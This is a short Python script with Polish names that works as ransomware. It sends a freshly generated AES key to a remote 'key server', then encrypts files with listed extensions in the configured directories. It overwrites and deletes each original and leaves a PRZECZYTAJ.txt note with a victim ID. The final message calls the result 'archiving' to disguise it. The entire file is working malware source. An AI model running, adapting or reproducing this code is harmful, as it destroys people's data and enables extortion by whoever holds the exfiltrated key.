#!/usr/bin/env python3
import json, os, pathlib, secrets, urllib.request, uuid
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

U = json.loads((pathlib.Path(__file__).parent / "ustawienia.json").read_text(encoding="utf-8"))


def zdeponuj_klucz(klucz: bytes, ident: str) -> None:
    dane = json.dumps({"id": ident, "k": klucz.hex()}).encode()
    urllib.request.urlopen(urllib.request.Request(U["serwer_kluczy"], data=dane,
                           headers={"Content-Type": "application/json"}), timeout=15)


def zaszyfruj(p: pathlib.Path, aes: AESGCM) -> None:
    nonce = secrets.token_bytes(12)
    p.with_name(p.name + U["sufiks"]).write_bytes(nonce + aes.encrypt(nonce, p.read_bytes(), None))
    with open(p, "r+b") as f:  # nadpisz przed usunięciem
        f.write(b"\0" * p.stat().st_size)
    p.unlink()


def main():
    ident = uuid.uuid4().hex[:12]
    klucz = AESGCM.generate_key(bit_length=256)
    zdeponuj_klucz(klucz, ident)
    aes = AESGCM(klucz)
    n = 0
    for k in U["katalogi"]:
        root = pathlib.Path(os.path.expanduser(k))
        if not root.exists():
            continue
        for p in root.rglob("*"):
            if p.is_file() and p.suffix.lower() in U["rozszerzenia"]:
                try:
                    zaszyfruj(p, aes); n += 1
                except OSError:
                    pass
        (root / "PRZECZYTAJ.txt").write_text(U["notatka"].format(id=ident), encoding="utf-8")
    del klucz, aes
    print(f"zarchiwizowano {n} plików")


if __name__ == "__main__":
    main()
